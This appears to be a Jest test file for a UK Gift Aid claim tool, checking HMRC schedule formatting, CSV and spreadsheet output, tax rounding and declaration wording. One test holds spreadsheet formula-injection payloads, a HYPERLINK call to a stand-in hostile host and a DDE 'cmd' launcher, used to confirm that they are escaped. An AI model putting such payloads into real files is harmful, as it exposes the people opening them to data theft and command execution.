import { describe, expect, it } from '@jest/globals';
import XLSX from 'xlsx';
import { readFileSync } from 'node:fs';
import { giftAidShares } from './claim-draft.js';
import {
  amountCell,
  dateCell,
  firstNameCell,
  houseCell,
  lastNameCell,
  postcodeCell,
  ROWS_PER_CLAIM,
  SCHEDULE_COLUMNS,
  type ScheduleRow,
  scheduleCells,
  scheduleCsv,
  scheduleOds,
  titleCell,
} from './schedule.js';
import { shiftYears, taxYearBounds, taxYearOf } from './tax-year.js';
import { DeclarationScope, declarationWording } from './wording.js';

const row = (overrides: Partial<ScheduleRow> = {}): ScheduleRow => ({
  title: 'Mrs',
  firstName: 'Ada',
  lastName: 'Lovelace',
  houseNameOrNumber: '12',
  postcode: 'SW1A 1AA',
  aggregated: '',
  sponsored: false,
  donationDate: '2026-04-05',
  amountMinor: 1000,
  ...overrides,
});

describe("HMRC's schedule cell rules", () => {
  it('keeps a title of at most 4 characters and leaves a longer one blank', () => {
    expect(titleCell('Prof')).toBe('Prof');
    expect(titleCell(' Rev ')).toBe('Rev');
    expect(titleCell('Brother')).toBe('');
  });

  it('cuts names to 35 characters and writes a double-barrelled last name with a space', () => {
    expect(firstNameCell('A'.repeat(40))).toBe('A'.repeat(35));
    expect(lastNameCell('House-Martin')).toBe('House Martin');
    expect(lastNameCell(`${'B'.repeat(34)}-Smith`)).toBe('B'.repeat(34));
    // The template's first-name column: "up to 35 characters with no spaces, or just enter an initial".
    expect(firstNameCell('  Mary   Ann  ')).toBe('Mary');
    expect(firstNameCell('Jean-Luc')).toBe('Jean-Luc');
  });

  it('writes postcodes in capitals with one space', () => {
    expect(postcodeCell('sw1a1aa')).toBe('SW1A 1AA');
    expect(postcodeCell(' s19  2bd ')).toBe('S19 2BD');
    expect(postcodeCell('x')).toBe('X');
    expect(houseCell(' Rose   Cottage ')).toBe('Rose Cottage');
  });

  it('writes dates as DD/MM/YY and amounts with two decimals, never 0.00', () => {
    expect(dateCell('2026-04-05')).toBe('05/04/26');
    expect(dateCell('2025-12-31')).toBe('31/12/25');
    expect(amountCell(1000)).toBe('10.00');
    expect(amountCell(123456)).toBe('1234.56');
    expect(amountCell(5)).toBe('0.05');
    expect(amountCell(0)).toBe('');
  });

  it('leaves cells that do not apply blank and marks sponsored events Yes', () => {
    expect(scheduleCells(row())).toEqual({
      title: 'Mrs',
      firstName: 'Ada',
      lastName: 'Lovelace',
      houseNameOrNumber: '12',
      postcode: 'SW1A 1AA',
      aggregatedDonations: '',
      sponsoredEvent: '',
      donationDate: '05/04/26',
      amount: '10.00',
    });
    const aggregated = scheduleCells(row({ title: '', firstName: '', lastName: '', houseNameOrNumber: '', postcode: '', aggregated: 'Online donations 2025-26', sponsored: true }));
    expect(aggregated).toEqual({
      title: '',
      firstName: '',
      lastName: '',
      houseNameOrNumber: '',
      postcode: '',
      aggregatedDonations: 'Online donations 2025-26',
      sponsoredEvent: 'Yes',
      donationDate: '05/04/26',
      amount: '10.00',
    });
  });
});

const template = XLSX.read(readFileSync(new URL('../../../test/fixtures/gift-aid-schedule-template.xlsx', import.meta.url)), { cellDates: true });
const templateSheet = template.Sheets[template.SheetNames[0]];

describe('schedule files', () => {
  it('shares the tax of adjustment lines so they add up exactly to Box 2', () => {
    // 25 % of 1p, 1p and 2p is 1p in all (of 4p), though each line alone rounds to 0p, 0p and 1p (2p).
    expect(giftAidShares([1, 1, 2])).toEqual([0, 0, 1]);
    expect(giftAidShares([2, 2, 2])).toEqual([1, 1, 0]);
    expect(giftAidShares([2550, 1003, 1003])).toEqual([637, 251, 251]);
    for (const amounts of [[3, 3, 3], [1, 2, 3, 5, 7], [99, 101, 1]]) {
      const total = amounts.reduce((sum, amount) => sum + amount, 0);
      expect(giftAidShares(amounts).reduce((sum, share) => sum + share, 0)).toBe(Math.round(total / 4));
    }
  });

  it('writes CSV with a header row, CRLF line ends and quotes only where needed', () => {
    const csv = scheduleCsv([row({ houseNameOrNumber: 'Flat 2, "The Oaks"' })]).toString('utf8');
    expect(csv).toBe(
      'Title,First name,Last name,House name or number,Postcode,Aggregated donations,Sponsored event,Donation date,Amount\r\n' +
        'Mrs,Ada,Lovelace,"Flat 2, ""The Oaks""",SW1A 1AA,,,05/04/26,10.00\r\n',
    );
  });

  it('writes a name or address a spreadsheet would run as a formula as text, and the amount as a number', () => {
    const csv = scheduleCsv([row({ firstName: '=HYPERLINK("//ev.il/"&D2,"x")', lastName: "+cmd|' /C calc'!A0", houseNameOrNumber: '@SUM(1)' })]).toString('utf8');
    expect(csv.split('\r\n')[1]).toBe(`Mrs,"'=HYPERLINK(""//ev.il/""&D2,""x"")",'+cmd|' /C calc'!A0,'@SUM(1),SW1A 1AA,,,05/04/26,10.00`);
  });

  it("writes HMRC's sheet: its name, Box 1, Box 2, the headings on row 23 and the rows from 25, where the template has them", async () => {
    const rows = Array.from({ length: ROWS_PER_CLAIM }, (_, index) => row({ donationDate: index ? '2026-04-05' : '2026-04-02', amountMinor: 1000 + index }));
    rows[1] = row({ title: '', firstName: '', lastName: '', houseNameOrNumber: '', postcode: '', aggregated: 'Online donations 2025-26', amountMinor: 2500 });
    const ods = await scheduleOds({ rows, earliestDonationDate: '2026-03-30', overclaimedTaxMinor: 638 });
    expect((await scheduleOds({ rows, earliestDonationDate: '2026-03-30', overclaimedTaxMinor: 638 })).equals(ods)).toBe(true);
    const book = XLSX.read(ods, { type: 'buffer', cellDates: true });
    expect(book.SheetNames).toEqual(template.SheetNames);
    const sheet = book.Sheets[template.SheetNames[0]];
    // The template's labels, where the template has them.
    for (const cell of ['B1', 'D12', 'C13', 'D16', 'F16', 'C17', 'H20', 'B23', 'B1025']) expect(sheet[cell]?.v).toBe(templateSheet[cell].v);
    // Box 1 (D13) a date shown DD/MM/YY, Box 2 (D17) the tax as a number: the template leaves both blank to fill.
    expect(templateSheet.D13).toBeUndefined();
    expect(sheet.D13).toMatchObject({ t: 'd', w: '30/03/26' });
    expect((sheet.D13.v as Date).toISOString().slice(0, 10)).toBe('2026-03-30');
    expect(sheet.D17).toMatchObject({ t: 'n', v: 6.38 });
    expect(sheet.J20.f).toBe(templateSheet.J20.f);
    // The headings are the template's, from B23 to K23, in its order.
    const headings = (s: XLSX.WorkSheet) => 'BCDEFGHIJK'.split('').map((column) => s[`${column}23`].v);
    expect(headings(sheet)).toEqual(headings(templateSheet));
    expect(SCHEDULE_COLUMNS.map((column) => templateSheet[`${column.sheetColumn}23`].v)).toEqual(SCHEDULE_COLUMNS.map((column) => column.heading));
    // Items 1 to 1,000 in column B from row 25, as in the template; the first and last rows are the first and last donations.
    expect([sheet.B25.v, sheet.B1024.v]).toEqual([templateSheet.B25.v, templateSheet.B1024.v]);
    expect(sheet.C25.v).toBe('Mrs');
    expect(sheet.J25.t).toBe('d');
    expect((sheet.J25.v as Date).toISOString().slice(0, 10)).toBe('2026-04-02');
    expect(sheet.K25).toMatchObject({ t: 'n', v: 10 });
    expect(sheet.H26.v).toBe('Online donations 2025-26');
    expect(sheet.C26).toBeUndefined();
    expect(sheet.K1024).toMatchObject({ t: 'n', v: 19.99 });
    expect(sheet.C1024.v).toBe('Mrs');
    expect(sheet.C1025).toBeUndefined();
  });

  it('leaves Box 1 and Box 2 blank when the claim has no donations or no adjustment, and refuses more than 1,000 rows', async () => {
    const sheet = XLSX.read(await scheduleOds({ rows: [], earliestDonationDate: null, overclaimedTaxMinor: 0 }), { type: 'buffer' }).Sheets.R68GAD_V1_00_0_EN;
    expect(sheet.D13).toBeUndefined();
    expect(sheet.D17).toBeUndefined();
    await expect(scheduleOds({ rows: Array.from({ length: 1001 }, () => row()), earliestDonationDate: null, overclaimedTaxMinor: 0 })).rejects.toThrow(/at most 1000 rows/);
  });
});

describe('tax years and wording', () => {
  it('runs tax years from 6 April to 5 April', () => {
    expect(taxYearOf('2026-04-05')).toBe(2025);
    expect(taxYearOf('2026-04-06')).toBe(2026);
    expect(taxYearBounds(2025)).toEqual({ from: '2025-04-06', to: '2026-04-05' });
    expect(shiftYears('2028-02-29', -4)).toBe('2024-02-29');
    expect(shiftYears('2024-02-29', 1)).toBe('2025-02-28');
  });

  it("states HMRC's model declaration for one gift and for an enduring one", () => {
    expect(declarationWording(DeclarationScope.ThisDonation, 'Grace Church', { amountMinor: 1000, currency: 'GBP' })).toBe(
      "I want to Gift Aid my donation of £10.00 to Grace Church. I am a UK taxpayer and understand that if I pay less Income Tax and/or Capital Gains Tax in the current tax year than the amount of Gift Aid claimed on all my donations it is my responsibility to pay any difference. I am giving my own money, not a company's, a group's or someone else's.",
    );
    expect(declarationWording(DeclarationScope.Enduring, 'Grace Church')).toBe(
      "I want to Gift Aid any donations I make in the future or have made in the past 4 years to Grace Church. I am a UK taxpayer and understand that if I pay less Income Tax and/or Capital Gains Tax in that tax year than the amount of Gift Aid claimed on all my donations it is my responsibility to pay any difference. I am giving my own money, not a company's, a group's or someone else's.",
    );
  });
});
